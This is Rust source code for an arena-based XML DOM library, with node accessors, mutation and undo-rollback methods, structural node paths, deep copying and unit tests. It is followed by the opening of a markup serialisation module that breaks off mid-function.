            name,
            value: value.into(),
        })
    }

    // ----- read accessors ---------------------------------------------------

    /// Ordered child list of a document or element node; empty otherwise.
    pub fn children(&self, id: NodeId) -> &[NodeId] {
        match &self.nodes[id.index()].kind {
            NodeKind::Document { children } => children,
            NodeKind::Element { children, .. } => children,
            _ => &[],
        }
    }

    /// Attribute nodes of an element; empty otherwise.
    pub fn attributes(&self, id: NodeId) -> &[NodeId] {
        match &self.nodes[id.index()].kind {
            NodeKind::Element { attrs, .. } => attrs,
            _ => &[],
        }
    }

    /// The element name, if `id` is an element.
    pub fn element_name(&self, id: NodeId) -> Option<&QName> {
        match &self.nodes[id.index()].kind {
            NodeKind::Element { name, .. } => Some(name),
            _ => None,
        }
    }

    /// The node name for elements, attributes and PIs.
    pub fn node_name(&self, id: NodeId) -> Option<QName> {
        match &self.nodes[id.index()].kind {
            NodeKind::Element { name, .. } => Some(name.clone()),
            NodeKind::Attribute { name, .. } => Some(name.clone()),
            NodeKind::ProcessingInstruction { target, .. } => Some(QName::local(target)),
            _ => None,
        }
    }

    /// Attribute string value by expanded name.
    pub fn get_attribute(&self, elem: NodeId, ns: Option<&str>, local: &str) -> Option<&str> {
        self.attribute_node(elem, ns, local)
            .map(|a| match &self.nodes[a.index()].kind {
                NodeKind::Attribute { value, .. } => value.as_str(),
                _ => unreachable!("attribute list holds non-attribute node"),
            })
    }

    /// Attribute node by expanded name.
    pub fn attribute_node(&self, elem: NodeId, ns: Option<&str>, local: &str) -> Option<NodeId> {
        self.attributes(elem).iter().copied().find(|a| {
            matches!(&self.nodes[a.index()].kind,
                NodeKind::Attribute { name, .. } if name.matches(ns, local))
        })
    }

    /// The string value of a text/comment/attribute/PI node, if any.
    pub fn simple_value(&self, id: NodeId) -> Option<&str> {
        match &self.nodes[id.index()].kind {
            NodeKind::Text { value }
            | NodeKind::Comment { value }
            | NodeKind::Attribute { value, .. }
            | NodeKind::ProcessingInstruction { value, .. } => Some(value),
            _ => None,
        }
    }

    /// XDM string value: concatenation of descendant text for
    /// documents/elements; own value otherwise.
    pub fn string_value(&self, id: NodeId) -> String {
        match &self.nodes[id.index()].kind {
            NodeKind::Document { .. } | NodeKind::Element { .. } => {
                let mut out = String::new();
                self.collect_text(id, &mut out);
                out
            }
            _ => self.simple_value(id).unwrap_or("").to_string(),
        }
    }

    fn collect_text(&self, id: NodeId, out: &mut String) {
        for &c in self.children(id) {
            match &self.nodes[c.index()].kind {
                NodeKind::Text { value } => out.push_str(value),
                NodeKind::Element { .. } => self.collect_text(c, out),
                _ => {}
            }
        }
    }

    /// Pre-order traversal of `id` and all its descendants (elements
    /// descend into children; attributes are *not* visited).
    pub fn descendants_or_self(&self, id: NodeId) -> Vec<NodeId> {
        let mut out = Vec::new();
        let mut stack = vec![id];
        while let Some(n) = stack.pop() {
            out.push(n);
            let kids = self.children(n);
            for &k in kids.iter().rev() {
                stack.push(k);
            }
        }
        out
    }

    /// True if `ancestor` is `node` or one of its ancestors.
    pub fn is_ancestor_or_self(&self, ancestor: NodeId, node: NodeId) -> bool {
        let mut cur = Some(node);
        while let Some(n) = cur {
            if n == ancestor {
                return true;
            }
            cur = self.parent(n);
        }
        false
    }

    /// Index of `child` in its parent's child list.
    pub fn child_index(&self, parent: NodeId, child: NodeId) -> Option<usize> {
        self.children(parent).iter().position(|&c| c == child)
    }

    /// The root of the tree containing `id` (follows parent links).
    pub fn tree_root(&self, id: NodeId) -> NodeId {
        let mut cur = id;
        while let Some(p) = self.parent(cur) {
            cur = p;
        }
        cur
    }

    /// True if the node is reachable from the document node.
    pub fn is_attached(&self, id: NodeId) -> bool {
        self.tree_root(id) == self.root()
    }

    /// True if `id` names a slot that exists in this arena.
    #[inline]
    pub fn contains(&self, id: NodeId) -> bool {
        id.index() < self.nodes.len()
    }

    /// Stable structural address of an attached node: the child indices from
    /// the document root down to the node, with an attribute addressed by a
    /// final [`PATH_ATTR_BIT`]-tagged index into its owner's attribute list.
    /// Unlike a [`NodeId`] — which depends on arena allocation history and
    /// tombstones — the path survives a serialize → parse round trip, which
    /// is what redo-log records are keyed on. Returns `None` for detached
    /// nodes and for the document node itself an empty path.
    pub fn node_path(&self, id: NodeId) -> Option<Vec<u32>> {
        if !self.contains(id) || !self.is_attached(id) {
            return None;
        }
        let mut steps = Vec::new();
        let mut cur = id;
        if self.kind(cur).is_attribute() {
            let owner = self.parent(cur)?;
            let idx = self.attributes(owner).iter().position(|&a| a == cur)?;
            steps.push(PATH_ATTR_BIT | idx as u32);
            cur = owner;
        }
        while cur != self.root() {
            let parent = self.parent(cur)?;
            let idx = self.child_index(parent, cur)?;
            steps.push(idx as u32);
            cur = parent;
        }
        steps.reverse();
        Some(steps)
    }

    /// Resolves a path produced by [`node_path`](Self::node_path) against
    /// this document. Returns `None` when any step is out of range or an
    /// attribute step is not last.
    pub fn resolve_path(&self, path: &[u32]) -> Option<NodeId> {
        let mut cur = self.root();
        for (i, &step) in path.iter().enumerate() {
            if step & PATH_ATTR_BIT != 0 {
                if i + 1 != path.len() {
                    return None;
                }
                cur = *self.attributes(cur).get((step & !PATH_ATTR_BIT) as usize)?;
            } else {
                cur = *self.children(cur).get(step as usize)?;
            }
        }
        Some(cur)
    }

    /// Namespace declarations written on an element.
    pub fn ns_decls(&self, id: NodeId) -> &[(String, String)] {
        match &self.nodes[id.index()].kind {
            NodeKind::Element { ns_decls, .. } => ns_decls,
            _ => &[],
        }
    }

    /// Resolves `prefix` against the in-scope namespaces of `id`
    /// (walking ancestors). `""` looks up the default namespace.
    pub fn lookup_namespace(&self, id: NodeId, prefix: &str) -> Option<&str> {
        let mut cur = Some(id);
        while let Some(n) = cur {
            for (p, uri) in self.ns_decls(n) {
                if p == prefix {
                    return if uri.is_empty() { None } else { Some(uri) };
                }
            }
            cur = self.parent(n);
        }
        if prefix == "xml" {
            return Some(crate::name::XML_NS);
        }
        None
    }

    // ----- mutation ---------------------------------------------------------

    fn check_exists(&self, id: NodeId) -> DomResult<()> {
        if id.index() < self.nodes.len() {
            Ok(())
        } else {
            Err(DomError::InvalidNode(format!("no node {id:?} in arena")))
        }
    }

    fn children_mut(&mut self, id: NodeId) -> DomResult<&mut Vec<NodeId>> {
        match &mut self.nodes[id.index()].kind {
            NodeKind::Document { children } => Ok(children),
            NodeKind::Element { children, .. } => Ok(children),
            k => Err(DomError::InvalidMutation(format!(
                "{} node cannot have children",
                k.kind_name()
            ))),
        }
    }

    fn check_insertable_child(&self, parent: NodeId, child: NodeId) -> DomResult<()> {
        self.check_exists(parent)?;
        self.check_exists(child)?;
        if self.nodes[child.index()].parent.is_some() {
            return Err(DomError::InvalidMutation(
                "node already has a parent; detach it first".into(),
            ));
        }
        if self.nodes[child.index()].kind.is_attribute() {
            return Err(DomError::InvalidMutation(
                "attribute nodes cannot be inserted as children".into(),
            ));
        }
        if self.nodes[child.index()].kind.is_document() {
            return Err(DomError::InvalidMutation(
                "document nodes cannot be inserted as children".into(),
            ));
        }
        if self.is_ancestor_or_self(child, parent) {
            return Err(DomError::InvalidMutation(
                "insertion would create a cycle".into(),
            ));
        }
        Ok(())
    }

    /// Appends `child` as the last child of `parent`.
    pub fn append_child(&mut self, parent: NodeId, child: NodeId) -> DomResult<()> {
        self.check_insertable_child(parent, child)?;
        self.touch();
        self.children_mut(parent)?.push(child);
        self.nodes[child.index()].parent = Some(parent);
        Ok(())
    }

    /// Inserts `child` at position `idx` of `parent`'s child list.
    pub fn insert_child_at(&mut self, parent: NodeId, idx: usize, child: NodeId) -> DomResult<()> {
        self.check_insertable_child(parent, child)?;
        let kids = self.children_mut(parent)?;
        if idx > kids.len() {
            return Err(DomError::InvalidMutation(format!(
                "index {idx} out of bounds ({} children)",
                kids.len()
            )));
        }
        kids.insert(idx, child);
        self.nodes[child.index()].parent = Some(parent);
        self.touch();
        Ok(())
    }

    /// Inserts `new` immediately before `anchor` (which must be attached).
    pub fn insert_before(&mut self, new: NodeId, anchor: NodeId) -> DomResult<()> {
        let parent = self
            .parent(anchor)
            .ok_or_else(|| DomError::InvalidMutation("anchor node has no parent".into()))?;
        let idx = self
            .child_index(parent, anchor)
            .ok_or_else(|| DomError::InvalidNode("anchor not found in parent".into()))?;
        self.insert_child_at(parent, idx, new)
    }

    /// Inserts `new` immediately after `anchor`.
    pub fn insert_after(&mut self, new: NodeId, anchor: NodeId) -> DomResult<()> {
        let parent = self
            .parent(anchor)
            .ok_or_else(|| DomError::InvalidMutation("anchor node has no parent".into()))?;
        let idx = self
            .child_index(parent, anchor)
            .ok_or_else(|| DomError::InvalidNode("anchor not found in parent".into()))?;
        self.insert_child_at(parent, idx + 1, new)
    }

    /// Detaches a node from its parent (child or attribute). The node stays
    /// in the arena as the root of its own subtree.
    pub fn detach(&mut self, id: NodeId) -> DomResult<()> {
        self.check_exists(id)?;
        let Some(parent) = self.nodes[id.index()].parent else {
            return Ok(()); // already detached
        };
        self.touch();
        let is_attr = self.nodes[id.index()].kind.is_attribute();
        match &mut self.nodes[parent.index()].kind {
            NodeKind::Element {
                attrs, children, ..
            } => {
                if is_attr {
                    attrs.retain(|&a| a != id);
                } else {
                    children.retain(|&c| c != id);
                }
            }
            NodeKind::Document { children } => children.retain(|&c| c != id),
            _ => {}
        }
        self.nodes[id.index()].parent = None;
        Ok(())
    }

    /// Replaces attached node `old` with `new` (same position).
    pub fn replace_node(&mut self, old: NodeId, new: NodeId) -> DomResult<()> {
        let parent = self
            .parent(old)
            .ok_or_else(|| DomError::InvalidMutation("cannot replace a parentless node".into()))?;
        if self.nodes[old.index()].kind.is_attribute() {
            if !self.nodes[new.index()].kind.is_attribute() {
                return Err(DomError::InvalidMutation(
                    "an attribute can only be replaced by an attribute".into(),
                ));
            }
            self.detach(old)?;
            return self.put_attribute_node(parent, new);
        }
        let idx = self
            .child_index(parent, old)
            .ok_or_else(|| DomError::InvalidNode("old node not found in parent".into()))?;
        self.detach(old)?;
        self.insert_child_at(parent, idx, new)
    }

    /// Adds an existing attribute node to an element, replacing any
    /// attribute with the same expanded name.
    pub fn put_attribute_node(&mut self, elem: NodeId, attr: NodeId) -> DomResult<()> {
        self.check_exists(elem)?;
        self.check_exists(attr)?;
        let (ns, local) = match &self.nodes[attr.index()].kind {
            NodeKind::Attribute { name, .. } => (name.ns.clone(), name.local.clone()),
            _ => {
                return Err(DomError::InvalidMutation(
                    "put_attribute_node requires an attribute node".into(),
                ))
            }
        };
        if !self.nodes[elem.index()].kind.is_element() {
            return Err(DomError::InvalidMutation(
                "attributes can only be attached to elements".into(),
            ));
        }
        if self.nodes[attr.index()].parent.is_some() {
            return Err(DomError::InvalidMutation(
                "attribute already has an owner".into(),
            ));
        }
        if let Some(existing) = self.attribute_node(elem, ns.as_deref(), &local) {
            self.detach(existing)?;
        }
        self.touch();
        match &mut self.nodes[elem.index()].kind {
            NodeKind::Element { attrs, .. } => attrs.push(attr),
            _ => unreachable!(),
        }
        self.nodes[attr.index()].parent = Some(elem);
        Ok(())
    }

    /// Sets (creating or updating) an attribute by name; returns its node.
    pub fn set_attribute(
        &mut self,
        elem: NodeId,
        name: QName,
        value: impl Into<String>,
    ) -> DomResult<NodeId> {
        let value = value.into();
        if let Some(existing) = self.attribute_node(elem, name.ns.as_deref(), &name.local) {
            match &mut self.nodes[existing.index()].kind {
                NodeKind::Attribute { value: v, .. } => *v = value,
                _ => unreachable!(),
            }
            return Ok(existing);
        }
        let attr = self.create_attribute(name, value);
        self.put_attribute_node(elem, attr)?;
        Ok(attr)
    }

    /// Removes an attribute by expanded name; returns true if one existed.
    pub fn remove_attribute(
        &mut self,
        elem: NodeId,
        ns: Option<&str>,
        local: &str,
    ) -> DomResult<bool> {
        if let Some(attr) = self.attribute_node(elem, ns, local) {
            self.detach(attr)?;
            Ok(true)
        } else {
            Ok(false)
        }
    }

    /// Renames an element, attribute or PI (Update Facility `rename node`).
    pub fn rename(&mut self, id: NodeId, new_name: QName) -> DomResult<()> {
        self.check_exists(id)?;
        match &mut self.nodes[id.index()].kind {
            NodeKind::Element { name, .. } | NodeKind::Attribute { name, .. } => {
                *name = new_name;
                Ok(())
            }
            NodeKind::ProcessingInstruction { target, .. } => {
                *target = new_name.local.to_string();
                Ok(())
            }
            k => Err(DomError::InvalidMutation(format!(
                "cannot rename a {} node",
                k.kind_name()
            ))),
        }
    }

    /// Overwrites the value of a text/comment/attribute/PI node
    /// (Update Facility `replace value of node` for simple nodes).
    pub fn set_simple_value(&mut self, id: NodeId, value: impl Into<String>) -> DomResult<()> {
        self.check_exists(id)?;
        match &mut self.nodes[id.index()].kind {
            NodeKind::Text { value: v }
            | NodeKind::Comment { value: v }
            | NodeKind::Attribute { value: v, .. }
            | NodeKind::ProcessingInstruction { value: v, .. } => {
                *v = value.into();
                Ok(())
            }
            k => Err(DomError::InvalidMutation(format!(
                "{} node has no simple value",
                k.kind_name()
            ))),
        }
    }

    /// `replace value of node` for elements: all children are removed and
    /// replaced by a single text node (or nothing, for the empty string).
    pub fn replace_element_value(&mut self, elem: NodeId, text: &str) -> DomResult<()> {
        let kids: Vec<NodeId> = self.children(elem).to_vec();
        for k in kids {
            self.detach(k)?;
        }
        if !text.is_empty() {
            let t = self.create_text(text);
            self.append_child(elem, t)?;
        }
        Ok(())
    }

    /// Declares a namespace on an element.
    pub fn add_ns_decl(
        &mut self,
        elem: NodeId,
        prefix: impl Into<String>,
        uri: impl Into<String>,
    ) -> DomResult<()> {
        match &mut self.nodes[elem.index()].kind {
            NodeKind::Element { ns_decls, .. } => {
                let prefix = prefix.into();
                let uri = uri.into();
                if let Some(slot) = ns_decls.iter_mut().find(|(p, _)| *p == prefix) {
                    slot.1 = uri;
                } else {
                    ns_decls.push((prefix, uri));
                }
                Ok(())
            }
            k => Err(DomError::InvalidMutation(format!(
                "cannot declare a namespace on a {} node",
                k.kind_name()
            ))),
        }
    }

    /// Deep-copies `src` (from `src_doc`) into this document; returns the
    /// new root of the copy. Used by Update Facility inserts, which insert
    /// *copies* of their source nodes.
    pub fn deep_copy_from(&mut self, src_doc: &Document, src: NodeId) -> NodeId {
        match src_doc.kind(src).clone() {
            NodeKind::Document { children } => {
                // Copying a document yields its children wrapped under a new
                // element-less fragment; callers normally copy elements. We
                // copy into a fresh element-free subtree rooted at the first
                // copied child when there is exactly one; otherwise we create
                // a document-like container is not representable, so we copy
                // children under a synthetic element. In practice the engine
                // copies elements/text only.
                if children.len() == 1 {
                    self.deep_copy_from(src_doc, children[0])
                } else {
                    let holder = self.create_element(QName::local("#fragment"));
                    for c in children {
                        let cc = self.deep_copy_from(src_doc, c);
                        let _ = self.append_child(holder, cc);
                    }
                    holder
                }
            }
            NodeKind::Element {
                name,
                attrs,
                children,
                ns_decls,
            } => {
                let e = self.create_element(name);
                match &mut self.nodes[e.index()].kind {
                    NodeKind::Element { ns_decls: nd, .. } => *nd = ns_decls,
                    _ => unreachable!(),
                }
                for a in attrs {
                    let ac = self.deep_copy_from(src_doc, a);
                    let _ = self.put_attribute_node(e, ac);
                }
                for c in children {
                    let cc = self.deep_copy_from(src_doc, c);
                    let _ = self.append_child(e, cc);
                }
                e
            }
            NodeKind::Attribute { name, value } => self.create_attribute(name, value),
            NodeKind::Text { value } => self.create_text(value),
            NodeKind::Comment { value } => self.create_comment(value),
            NodeKind::ProcessingInstruction { target, value } => self.create_pi(target, value),
        }
    }

    /// Deep copy within the same document.
    pub fn deep_copy(&mut self, src: NodeId) -> NodeId {
        let snapshot = self.clone_subtree_data(src);
        self.instantiate(&snapshot)
    }

    fn clone_subtree_data(&self, src: NodeId) -> SubtreeSnapshot {
        let mut snap = SubtreeSnapshot { nodes: Vec::new() };
        self.snapshot_into(src, &mut snap);
        snap
    }

    fn snapshot_into(&self, src: NodeId, snap: &mut SubtreeSnapshot) -> usize {
        let slot = snap.nodes.len();
        snap.nodes.push(SnapNode {
            kind: match self.kind(src) {
                NodeKind::Element { name, ns_decls, .. } => SnapKind::Element {
                    name: name.clone(),
                    ns_decls: ns_decls.clone(),
                },
                NodeKind::Attribute { name, value } => SnapKind::Attribute {
                    name: name.clone(),
                    value: value.clone(),
                },
                NodeKind::Text { value } => SnapKind::Text(value.clone()),
                NodeKind::Comment { value } => SnapKind::Comment(value.clone()),
                NodeKind::ProcessingInstruction { target, value } => {
                    SnapKind::Pi(target.clone(), value.clone())
                }
                NodeKind::Document { .. } => SnapKind::Text(String::new()),
            },
            attrs: Vec::new(),
            children: Vec::new(),
        });
        let attr_ids: Vec<NodeId> = self.attributes(src).to_vec();
        let child_ids: Vec<NodeId> = self.children(src).to_vec();
        for a in attr_ids {
            let ai = self.snapshot_into(a, snap);
            snap.nodes[slot].attrs.push(ai);
        }
        for c in child_ids {
            let ci = self.snapshot_into(c, snap);
            snap.nodes[slot].children.push(ci);
        }
        slot
    }

    fn instantiate(&mut self, snap: &SubtreeSnapshot) -> NodeId {
        self.instantiate_at(snap, 0)
    }

    fn instantiate_at(&mut self, snap: &SubtreeSnapshot, idx: usize) -> NodeId {
        let node = &snap.nodes[idx];
        let id = match &node.kind {
            SnapKind::Element { name, ns_decls } => {
                let e = self.create_element(name.clone());
                match &mut self.nodes[e.index()].kind {
                    NodeKind::Element { ns_decls: nd, .. } => *nd = ns_decls.clone(),
                    _ => unreachable!(),
                }
                e
            }
            SnapKind::Attribute { name, value } => {
                self.create_attribute(name.clone(), value.clone())
            }
            SnapKind::Text(v) => self.create_text(v.clone()),
            SnapKind::Comment(v) => self.create_comment(v.clone()),
            SnapKind::Pi(t, v) => self.create_pi(t.clone(), v.clone()),
        };
        let attrs = snap.nodes[idx].attrs.clone();
        let children = snap.nodes[idx].children.clone();
        for ai in attrs {
            let a = self.instantiate_at(snap, ai);
            let _ = self.put_attribute_node(id, a);
        }
        for ci in children {
            let c = self.instantiate_at(snap, ci);
            let _ = self.append_child(id, c);
        }
        id
    }

    /// Forcibly restores `parent`'s child list to a previously captured
    /// snapshot (undo-log rollback). Children currently in the list but not
    /// in the snapshot are orphaned; snapshot members are re-parented here,
    /// being pulled out of whatever list they moved to in the meantime.
    /// Unlike the checked mutation API this trusts the snapshot: it was
    /// taken from a consistent document, so replaying it cannot create
    /// cycles or attribute children that did not already exist.
    pub fn restore_children(&mut self, parent: NodeId, snapshot: &[NodeId]) -> DomResult<()> {
        self.check_exists(parent)?;
        self.touch();
        let current: Vec<NodeId> = self.children(parent).to_vec();
        for c in current {
            if !snapshot.contains(&c) {
                self.nodes[c.index()].parent = None;
            }
        }
        for &c in snapshot {
            self.unlink_from_other_parent(c, parent);
            self.nodes[c.index()].parent = Some(parent);
        }
        *self.children_mut(parent)? = snapshot.to_vec();
        Ok(())
    }

    /// Forcibly restores `elem`'s attribute list to a captured snapshot
    /// (undo-log rollback); the counterpart of [`Self::restore_children`].
    pub fn restore_attributes(&mut self, elem: NodeId, snapshot: &[NodeId]) -> DomResult<()> {
        self.check_exists(elem)?;
        self.touch();
        let current: Vec<NodeId> = self.attributes(elem).to_vec();
        for a in current {
            if !snapshot.contains(&a) {
                self.nodes[a.index()].parent = None;
            }
        }
        for &a in snapshot {
            self.unlink_from_other_parent(a, elem);
            self.nodes[a.index()].parent = Some(elem);
        }
        match &mut self.nodes[elem.index()].kind {
            NodeKind::Element { attrs, .. } => {
                *attrs = snapshot.to_vec();
                Ok(())
            }
            k => Err(DomError::InvalidMutation(format!(
                "{} node has no attributes to restore",
                k.kind_name()
            ))),
        }
    }

    /// Removes `node` from the child/attribute list of its current parent if
    /// that parent is not `keep` (rollback helper: a snapshot member may have
    /// been moved elsewhere by a later, already-undone primitive).
    fn unlink_from_other_parent(&mut self, node: NodeId, keep: NodeId) {
        let Some(cur) = self.nodes[node.index()].parent else {
            return;
        };
        if cur == keep {
            return;
        }
        match &mut self.nodes[cur.index()].kind {
            NodeKind::Element {
                attrs, children, ..
            } => {
                attrs.retain(|&a| a != node);
                children.retain(|&c| c != node);
            }
            NodeKind::Document { children } => children.retain(|&c| c != node),
            _ => {}
        }
    }

    /// Merges adjacent text children of `parent` and drops empty text nodes,
    /// as required after applying a pending update list.
    pub fn merge_adjacent_text(&mut self, parent: NodeId) -> DomResult<()> {
        let kids: Vec<NodeId> = self.children(parent).to_vec();
        let mut merged: Vec<NodeId> = Vec::with_capacity(kids.len());
        for k in kids {
            let is_text = self.nodes[k.index()].kind.is_text();
            if is_text {
                let val = self.simple_value(k).unwrap_or("").to_string();
                if val.is_empty() {
                    self.nodes[k.index()].parent = None;
                    continue;
                }
                if let Some(&last) = merged.last() {
                    if self.nodes[last.index()].kind.is_text() {
                        let combined = format!("{}{}", self.simple_value(last).unwrap_or(""), val);
                        self.set_simple_value(last, combined)?;
                        self.nodes[k.index()].parent = None;
                        continue;
                    }
                }
            }
            merged.push(k);
        }
        // Rewrites the child list and orphans nodes directly (bypassing
        // `detach`), so it must invalidate the order index itself.
        self.touch();
        *self.children_mut(parent)? = merged;
        Ok(())
    }
}

struct SubtreeSnapshot {
    nodes: Vec<SnapNode>,
}

struct SnapNode {
    kind: SnapKind,
    attrs: Vec<usize>,
    children: Vec<usize>,
}

enum SnapKind {
    Element {
        name: QName,
        ns_decls: Vec<(String, String)>,
    },
    Attribute {
        name: QName,
        value: String,
    },
    Text(String),
    Comment(String),
    Pi(String, String),
}

#[cfg(test)]
mod tests {
    use super::*;

    fn doc_with_root() -> (Document, NodeId) {
        let mut d = Document::new();
        let e = d.create_element(QName::local("html"));
        d.append_child(d.root(), e).unwrap();
        (d, e)
    }

    #[test]
    fn build_and_string_value() {
        let (mut d, html) = doc_with_root();
        let body = d.create_element(QName::local("body"));
        d.append_child(html, body).unwrap();
        let t1 = d.create_text("Hello, ");
        let b = d.create_element(QName::local("b"));
        let t2 = d.create_text("World");
        d.append_child(body, t1).unwrap();
        d.append_child(body, b).unwrap();
        d.append_child(b, t2).unwrap();
        assert_eq!(d.string_value(d.root()), "Hello, World");
        assert_eq!(d.string_value(body), "Hello, World");
        assert_eq!(d.string_value(t1), "Hello, ");
    }

    #[test]
    fn attributes_roundtrip() {
        let (mut d, html) = doc_with_root();
        d.set_attribute(html, QName::local("id"), "page").unwrap();
        assert_eq!(d.get_attribute(html, None, "id"), Some("page"));
        // overwrite keeps a single node
        let a1 = d.attribute_node(html, None, "id").unwrap();
        let a2 = d.set_attribute(html, QName::local("id"), "page2").unwrap();
        assert_eq!(a1, a2);
        assert_eq!(d.get_attribute(html, None, "id"), Some("page2"));
        assert!(d.remove_attribute(html, None, "id").unwrap());
        assert_eq!(d.get_attribute(html, None, "id"), None);
        assert!(!d.remove_attribute(html, None, "id").unwrap());
    }

    #[test]
    fn insert_before_and_after() {
        let (mut d, html) = doc_with_root();
        let a = d.create_element(QName::local("a"));
        let c = d.create_element(QName::local("c"));
        d.append_child(html, a).unwrap();
        d.append_child(html, c).unwrap();
        let b = d.create_element(QName::local("b"));
        d.insert_before(b, c).unwrap();
        let names: Vec<String> = d
            .children(html)
            .iter()
            .map(|&k| d.element_name(k).unwrap().lexical())
            .collect();
        assert_eq!(names, ["a", "b", "c"]);
        let a2 = d.create_element(QName::local("a2"));
        d.insert_after(a2, a).unwrap();
        let names: Vec<String> = d
            .children(html)
            .iter()
            .map(|&k| d.element_name(k).unwrap().lexical())
            .collect();
        assert_eq!(names, ["a", "a2", "b", "c"]);
    }

    #[test]
    fn detach_and_reattach() {
        let (mut d, html) = doc_with_root();
        let p = d.create_element(QName::local("p"));
        d.append_child(html, p).unwrap();
        assert!(d.is_attached(p));
        d.detach(p).unwrap();
        assert!(!d.is_attached(p));
        assert!(d.children(html).is_empty());
        d.append_child(html, p).unwrap();
        assert!(d.is_attached(p));
    }

    #[test]
    fn cycle_rejected() {
        let (mut d, html) = doc_with_root();
        let p = d.create_element(QName::local("p"));
        d.append_child(html, p).unwrap();
        // detaching html then appending under p would make a cycle only if
        // html were an ancestor of p... build the actual cycle case:
        d.detach(html).unwrap();
        let err = d.append_child(p, html).unwrap_err();
        assert!(matches!(err, DomError::InvalidMutation(_)));
    }

    #[test]
    fn double_parent_rejected() {
        let (mut d, html) = doc_with_root();
        let p = d.create_element(QName::local("p"));
        d.append_child(html, p).unwrap();
        let err = d.append_child(html, p).unwrap_err();
        assert!(matches!(err, DomError::InvalidMutation(_)));
    }

    #[test]
    fn attribute_as_child_rejected() {
        let (mut d, html) = doc_with_root();
        let a = d.create_attribute(QName::local("x"), "1");
        assert!(d.append_child(html, a).is_err());
    }

    #[test]
    fn replace_node_keeps_position() {
        let (mut d, html) = doc_with_root();
        let a = d.create_element(QName::local("a"));
        let b = d.create_element(QName::local("b"));
        let c = d.create_element(QName::local("c"));
        for n in [a, b, c] {
            d.append_child(html, n).unwrap();
        }
        let x = d.create_element(QName::local("x"));
        d.replace_node(b, x).unwrap();
        let names: Vec<String> = d
            .children(html)
            .iter()
            .map(|&k| d.element_name(k).unwrap().lexical())
            .collect();
        assert_eq!(names, ["a", "x", "c"]);
        assert!(!d.is_attached(b));
    }

    #[test]
    fn rename_element_and_attribute() {
        let (mut d, html) = doc_with_root();
        d.rename(html, QName::local("xhtml")).unwrap();
        assert_eq!(d.element_name(html).unwrap().lexical(), "xhtml");
        let attr = d.set_attribute(html, QName::local("a"), "v").unwrap();
        d.rename(attr, QName::local("b")).unwrap();
        assert_eq!(d.get_attribute(html, None, "b"), Some("v"));
        let t = d.create_text("x");
        assert!(d.rename(t, QName::local("nope")).is_err());
    }

    #[test]
    fn replace_element_value() {
        let (mut d, html) = doc_with_root();
        let p = d.create_element(QName::local("p"));
        d.append_child(html, p).unwrap();
        let t = d.create_text("old");
        d.append_child(p, t).unwrap();
        d.replace_element_value(p, "new").unwrap();
        assert_eq!(d.string_value(p), "new");
        assert_eq!(d.children(p).len(), 1);
        d.replace_element_value(p, "").unwrap();
        assert!(d.children(p).is_empty());
    }

    #[test]
    fn deep_copy_is_disjoint() {
        let (mut d, html) = doc_with_root();
        d.set_attribute(html, QName::local("id"), "orig").unwrap();
        let t = d.create_text("payload");
        d.append_child(html, t).unwrap();
        let copy = d.deep_copy(html);
        assert_ne!(copy, html);
        assert_eq!(d.string_value(copy), "payload");
        assert_eq!(d.get_attribute(copy, None, "id"), Some("orig"));
        // mutating the copy leaves the original alone
        d.set_attribute(copy, QName::local("id"), "copy").unwrap();
        assert_eq!(d.get_attribute(html, None, "id"), Some("orig"));
    }

    #[test]
    fn cross_document_copy() {
        let (d1, html) = {
            let (mut d, html) = doc_with_root();
            let t = d.create_text("xdoc");
            d.append_child(html, t).unwrap();
            (d, html)
        };
        let mut d2 = Document::new();
        let copied = d2.deep_copy_from(&d1, html);
        assert_eq!(d2.string_value(copied), "xdoc");
    }

    #[test]
    fn merge_adjacent_text_nodes() {
        let (mut d, html) = doc_with_root();
        let t1 = d.create_text("a");
        let t2 = d.create_text("b");
        let t3 = d.create_text("");
        let e = d.create_element(QName::local("i"));
        let t4 = d.create_text("c");
        for n in [t1, t2, t3, e, t4] {
            d.append_child(html, n).unwrap();
        }
        d.merge_adjacent_text(html).unwrap();
        assert_eq!(d.children(html).len(), 3);
        assert_eq!(d.string_value(html), "abc");
    }

    #[test]
    fn node_paths_round_trip_and_survive_reparse() {
        let (mut d, html) = doc_with_root();
        let a = d.create_element(QName::local("a"));
        d.append_child(html, a).unwrap();
        let t = d.create_text("hello");
        d.append_child(a, t).unwrap();
        let b = d.create_element(QName::local("b"));
        d.append_child(html, b).unwrap();
        let attr = d.create_attribute(QName::local("k"), "v");
        d.put_attribute_node(b, attr).unwrap();

        for n in [html, a, t, b, attr] {
            let path = d.node_path(n).unwrap();
            assert_eq!(d.resolve_path(&path), Some(n), "path {path:?}");
        }
        assert_eq!(d.node_path(d.root()).unwrap(), Vec::<u32>::new());
        let attr_path = d.node_path(attr).unwrap();
        assert_eq!(attr_path.last().copied(), Some(PATH_ATTR_BIT));

        // detached nodes have no path
        let loose = d.create_element(QName::local("x"));
        assert_eq!(d.node_path(loose), None);
        // out-of-range / non-final attribute steps resolve to None
        assert_eq!(d.resolve_path(&[9]), None);
        assert_eq!(d.resolve_path(&[PATH_ATTR_BIT, 0]), None);

        // the address is stable across a serialize → parse round trip
        let xml = crate::serialize::serialize_document(&d);
        let re = crate::parse_document(&xml).unwrap();
        let rt = re.resolve_path(&d.node_path(t).unwrap()).unwrap();
        assert_eq!(re.string_value(rt), "hello");
        let ra = re.resolve_path(&attr_path).unwrap();
        assert!(re.kind(ra).is_attribute());
    }

    #[test]
    fn namespace_lookup_walks_ancestors() {
        let (mut d, html) = doc_with_root();
        d.add_ns_decl(html, "", "urn:default").unwrap();
        d.add_ns_decl(html, "x", "urn:x").unwrap();
        let child = d.create_element(QName::local("c"));
        d.append_child(html, child).unwrap();
        assert_eq!(d.lookup_namespace(child, ""), Some("urn:default"));
        assert_eq!(d.lookup_namespace(child, "x"), Some("urn:x"));
        assert_eq!(d.lookup_namespace(child, "y"), None);
        assert_eq!(d.lookup_namespace(child, "xml"), Some(crate::name::XML_NS));
    }
}
