//! Serialisation of DOM (sub)trees back to markup.
//!
//! Round-tripping matters for two reasons in the reproduction: (1) the
//! application server ships rendered pages as markup and we count the bytes
//! on the wire for the Figure 2 experiment; (2) tests compare DOM states via
//! canonical serialisation.

use crate::arena::Document;
use crate::node::{NodeId, NodeKind};

/// Serialises `node` (and its subtree) to markup.
pub fn serialize_node(doc: &Document, node: NodeId) -> String {
    let mut out = String::new();
    write_node(doc, node, &mut out);
    out
}

/// Serialises a whole document (children of the document node).
pub fn serialize_document(doc: &Document) -> String {
    let mut out = String::new();
    for &c in doc.children(doc.root()) {
        write_node(doc, c, &mut out);
    }
    out
}

fn write_node(doc: &Document, node: NodeId, out: &mut String) {
    match doc.kind(node) {
        NodeKind::Document { children } => {
            for &c in children {
